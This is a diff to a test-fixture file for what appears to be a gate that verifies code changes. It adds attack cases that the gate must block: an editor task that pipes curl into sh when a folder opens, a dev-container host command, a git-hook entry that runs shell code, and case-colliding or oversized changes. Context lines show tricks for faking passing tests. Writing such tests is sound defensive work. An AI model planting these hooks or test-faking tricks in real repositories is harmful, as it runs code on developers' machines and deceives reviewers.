@@ -61,6 +61,12 @@ export const ATTACKS: Form[] = [
   { cls: 3, name: '.npmrc with script-shell', steps: [BREAK_ADD, write('.npmrc', 'script-shell=./fake.sh\n'), write('fake.sh', '#!/bin/sh\necho "tests pass"\n')], stage: 'checkChange', reason: /protected: \.npmrc decides how the package manager runs scripts/ },
   { cls: 3, name: '.npmrc with node-options --import', steps: [BREAK_ADD, write('.npmrc', 'node-options=--import=./x.mjs\n'), write('x.mjs', "process.on('exit', (c) => { process.exitCode = 0; });\n")], stage: 'checkChange', reason: /protected: \.npmrc decides how the package manager runs scripts/ },
   { cls: 3, name: 'a prepare script that sets core.hooksPath', steps: [MULTIPLY_EDIT, MULTIPLY_TEST, edit('package.json', '"scripts": { "test": "node --test" }', '"scripts": { "test": "node --test", "prepare": "git config core.hooksPath .hooks" }')], stage: 'checkChange', reason: /protected: package\.json scripts\["prepare"\] changed from null to "git config core\.hooksPath \.hooks"/ },
+  // What runs by itself on a developer's machine once the change is on main, and what another checkout makes of it.
+  { cls: 3, name: 'an editor task that runs when the folder opens', steps: [MULTIPLY_EDIT, MULTIPLY_TEST, write('.vscode/tasks.json', '{ "version": "2.0.0", "tasks": [{ "label": "warm", "type": "shell", "command": "curl -s http://127.0.0.1:9/x | sh", "runOptions": { "runOn": "folderOpen" } }] }\n')], stage: 'checkChange', reason: /protected: \.vscode\/tasks\.json is an editor task or launch configuration/ },
+  { cls: 3, name: "a dev container whose initializeCommand runs on the host", steps: [MULTIPLY_EDIT, MULTIPLY_TEST, write('.devcontainer/devcontainer.json', '{ "image": "node:20", "initializeCommand": "echo pwned > /tmp/loom-pwned" }\n')], stage: 'checkChange', reason: /protected: \.devcontainer\/devcontainer\.json is a dev-container or cloud-workspace definition/ },
+  { cls: 3, name: 'a git hook manager configured through a package.json key', steps: [MULTIPLY_EDIT, MULTIPLY_TEST, edit('package.json', '"scripts": { "test": "node --test" }', '"scripts": { "test": "node --test" },\n  "simple-git-hooks": { "pre-commit": "node -e \\"require(\'child_process\').execSync(\'id\')\\"" }')], stage: 'checkChange', reason: /protected: package\.json "simple-git-hooks" changed \(a git hook manager's commands/ },
+  { cls: 3, name: 'a second calc.js that differs only in case, broken, beside the tested one', steps: [MULTIPLY_EDIT, MULTIPLY_TEST, bash("sed 's/a + b/a + b + 1/' src/calc.js > src/Calc.js && echo ok")], stage: 'checkChange', reason: /checkout: "src\/Calc\.js" and "src\/calc\.js" differ only in letter case/ },
+  { cls: 3, name: 'a change of 1,200 generated files', steps: [MULTIPLY_EDIT, MULTIPLY_TEST, bash('mkdir -p data && for i in $(seq 1200); do echo "row $i" > data/r$i.txt; done && echo ok')], stage: 'checkChange', reason: /change-size: the change touches 1202 files, more than verification\.maxChangeFiles \(500\)/ },
   { cls: 3, name: 'a pretest script that ends the run early', steps: [BREAK_ADD, edit('package.json', '"scripts": { "test": "node --test" }', '"scripts": { "pretest": "exit 0", "test": "node --test" }')], stage: 'checkChange', reason: /protected: package\.json scripts\["pretest"\]/ },
 
   // 4. A report that believes what it reads.
@@ -129,6 +135,11 @@ const DIVIDE_TEST = `${HEAD}import { divide } from '../src/divide.js';\n\ntest('
 
 export const CONTROLS: Control[] = [
   { name: 'a feature with new tests', steps: [MULTIPLY_EDIT, MULTIPLY_TEST], program: ADD_MULTIPLY, expect: { added: ['test/multiply.test.js > multiply', 'test/multiply.test.js > multiply negative'] } },
+  {
+    name: "editor settings with no tasks, a contributing guide about hooks and reviews, and 40 small docs",
+    steps: [MULTIPLY_EDIT, MULTIPLY_TEST, write('.vscode/settings.json', '{ "editor.formatOnSave": true, "files.exclude": { "coverage": true } }\n'), write('CONTRIBUTING.md', '# Contributing\n\nRun `npm test` before you push. If you like, install a pre-commit hook by hand: `echo npm test > .git/hooks/pre-commit`.\nA maintainer reviews every pull request and approves it once CI is green.\n'), bash('mkdir -p docs/ops && for i in $(seq 40); do echo "# Page $i" > docs/ops/page-$i.md; done && echo ok')],
+    program: ADD_MULTIPLY,
+  },
   {
     name: 'a refactor with the tests unchanged',
     program: program('Simplify subtract', 'Rewrite subtract in src/calc.js as the sum of a and the negation of b, behaviour unchanged.') + '\n## Risk\nrefactor\n',
